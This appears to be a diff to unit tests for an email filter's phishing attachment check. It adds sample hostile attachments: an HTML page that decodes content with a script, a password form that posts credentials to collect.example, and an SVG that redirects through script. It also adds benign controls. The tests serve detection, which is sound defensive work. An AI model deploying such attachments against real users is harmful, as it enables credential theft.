@@ -121,6 +121,41 @@ TEST(AttachmentCheck, DocumentsAndArchivesOfDocumentsAreQuiet) {
                   .reasons.empty());
 }
 
+TEST(AttachmentCheck, AnAttachedPageThatActsWhenOpened) {
+  // HTML smuggling: the sign-in page is decoded by a script when the attachment is opened.
+  auto check = make_attachment_check();
+  auto smuggled = run_check(
+      *check, with_attachment("Please review the remittance advice.", "application/octet-stream",
+                              "Remittance_Advice_0412.html",
+                              "<html><body><script>document.write(atob('PGZvcm0+'));</script>"
+                              "</body></html>"));
+  ASSERT_TRUE(has_reason(smuggled, "phishing.attached-page"));
+  EXPECT_DOUBLE_EQ(test::points(smuggled, Label::phishing), 4.0);
+  EXPECT_NE(smuggled.reasons.front().text.find("atob("), std::string::npos);
+  // A static page with a password form, typed so that the message view does not read it.
+  auto form = run_check(
+      *check, with_attachment("Your mailbox is full.", "application/octet-stream", "quota.htm",
+                              "<form action=\"https://collect.example/p\">Email <input "
+                              "name=\"email\"> Password <input type=\"password\" "
+                              "name=\"pw\"></form>"));
+  EXPECT_TRUE(has_reason(form, "phishing.attached-page"));
+  // An SVG "image" that sends the reader elsewhere.
+  auto svg = run_check(*check, with_attachment("Voice message", "image/svg+xml", "VM_0032.svg",
+                                               "<svg xmlns=\"http://www.w3.org/2000/svg\">"
+                                               "<script>window.location='https://x.example/'"
+                                               "</script></svg>"));
+  EXPECT_TRUE(has_reason(svg, "phishing.attached-page"));
+  // A receipt saved as a page, a chart drawn as SVG: nothing runs.
+  EXPECT_TRUE(run_check(*check, with_attachment("Your receipt.", "text/html", "receipt.html",
+                                                "<html><body><table><tr><td>Total</td><td>12.50"
+                                                "</td></tr></table></body></html>"))
+                  .reasons.empty());
+  EXPECT_TRUE(run_check(*check, with_attachment("The chart.", "image/svg+xml", "sales.svg",
+                                                "<svg><rect width=\"10\" height=\"20\"/>"
+                                                "</svg>"))
+                  .reasons.empty());
+}
+
 TEST(AttachmentCheck, FilterNamesItPhishingAndWarnsAboutTheProgram) {
   FilterConfig config;
   config.model_dir = ::testing::TempDir() + "/attachment-check-models";
@@ -135,7 +170,7 @@ TEST(AttachmentCheck, FilterNamesItPhishingAndWarnsAboutTheProgram) {
   bool warned = false;
   for (const auto& h : verdict_headers(v, thresholds))
     if (h.name == "X-Facteur-Verdict")
-      warned = h.value.find("do not open the program attached") != std::string::npos;
+      warned = h.value.find("do not open its attachment") != std::string::npos;
   EXPECT_TRUE(warned);
 }
 
